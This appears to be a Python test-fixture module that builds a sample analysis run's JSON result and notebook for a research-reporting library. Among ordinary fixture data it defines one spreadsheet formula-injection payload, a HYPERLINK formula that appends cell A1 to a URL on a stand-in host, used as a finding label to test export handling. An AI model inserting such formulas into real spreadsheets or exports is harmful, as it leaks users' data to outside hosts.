"""A run's JSON and notebook as they lie in a folder, made by hand: every number is known."""

import json
from pathlib import Path

from nbformat.v4 import new_code_cell, new_notebook, new_output

from cxlab.claims.estimate import Estimate
from cxlab.claims.finding import Finding
from cxlab.claims.on_scale import OnScale
from cxlab.claims.verdict import Verdict
from cxlab.figures.figure import Figure, canvas, to_svg
from cxlab.table import Table
from cxlab.workbook.whole_set import place_set

PASSPORT = {
    "notebook": "01_shop",
    "parameters": {"data": "own_data/shop.csv", "level": 0.95, "smallest_effect": 0.1},
    "files": {"shop.csv": "ab" * 32},
    "packages": {"python": "3.11.7", "numpy": "2.4.6", "papermill": "2.7.0"},
    "code": "cd" * 32,
    "revision": "0123456789ab",
    "about": "",
}
ATTACK = '=HYPERLINK("http://127.0.0.1/?"&A1, "+1")'


def finding(id="shop.gap", estimate=None, **changed):
    words = {
        "hypothesis": "H1",
        "claim": f"Customers of {id} get less than they expect.",
        "verdict": Verdict.SUPPORTED if estimate else Verdict.NO_EVIDENCE,
        "smallest_effect": 0.1,
        "basis": "confirmatory",
        "sources": ("own data: shop.csv",),
        "note": "" if estimate else "Nobody was asked.",
        "reading": "customers get {more}",
        "directions": ("more", "less"),
        "label": id,
    }
    return Finding(id=id, estimate=estimate, **(words | changed))


# Numbers that no short decimal holds: a file that rounds them loses them.
GAP = finding(
    estimate=Estimate(
        -0.1 - 0.2, -2 / 3, -0.1, "gap", n=1234, p_value=1 / 3e5, df=1232.7, method="paired t"
    ),
    on_scale=OnScale(
        -1 / 7,
        -2 / 7,
        -1 / 14,
        t=-10 / 3,
        means={"perception": 17 / 3, "expectation": 5.7},
        sds={"perception": 2**0.5, "expectation": 1.1, "gap": 0.7},
    ),
)
OPEN_ENDED = finding(
    "shop.ratio",
    Estimate(1 / 3, -1 / 9, float("inf"), "correlation", n=31, method="Fisher's z"),
    hypothesis="H2",
    label=ATTACK,
    sources=("iyengar_lepper_2000",),
    basis="exploratory",
)
ASKED = finding("shop.asked", hypothesis="H3")
FINDINGS = (GAP, OPEN_ENDED, ASKED)


def figure(
    name="bars", caption="What people bought, in two lines & more.", labels=("a < b",), hatch=""
):
    with canvas(7.2, 2.5) as (drawing, axes):
        axes.barh(range(len(labels)), [3] * len(labels), hatch=hatch)
        axes.text(1, 0, labels[0])
        svg = to_svg(drawing, name)
    numbers = Table("Bought", ("What", "n"), (("a", 3),))
    return Figure(name, svg, alt="Three people bought a.", data=numbers, caption=caption)


def content(findings=FINDINGS, **passport):
    return {
        "notebook": "01_shop",
        "question": "Do customers get less than they expect?",
        "parameters": PASSPORT["parameters"],
        "findings": [one.to_dict() for one in findings],
        "ledger": [],
        "asked": {},
        "passport": PASSPORT | passport,
    }


def ran(findings=FINDINGS, figures=()):
    """A notebook that shows these."""
    outputs = []
    for shown in (*findings, *figures):
        data, metadata = shown._repr_mimebundle_()
        outputs.append(new_output("display_data", data, metadata=metadata))
    return new_notebook(cells=[new_code_cell("show()", execution_count=1, outputs=outputs)])


def reported(folder: Path, record=None, notebook=None) -> Path:
    """Write a result and its notebook as a run does; return the JSON."""
    folder.mkdir(exist_ok=True)
    record = content() if record is None else record
    notebook = ran(figures=[figure()]) if notebook is None else notebook
    texts = {
        "01_shop.json": json.dumps(record, ensure_ascii=False),
        "01_shop.ipynb": json.dumps(notebook),
    }
    place_set(folder, "01_shop", texts)
    return folder / "01_shop.json"
